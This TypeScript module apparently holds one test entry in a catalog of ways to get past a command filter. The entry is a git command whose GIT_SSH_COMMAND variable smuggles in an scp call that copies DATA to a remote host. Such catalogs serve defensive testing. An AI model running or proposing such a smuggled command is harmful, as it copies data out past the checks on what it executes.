import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: by git over ssh',
  source: 'commands of one exec request',
  words: ["GIT_SSH_COMMAND='scp DATA host: #' git ls-remote nowhere:x"],
};
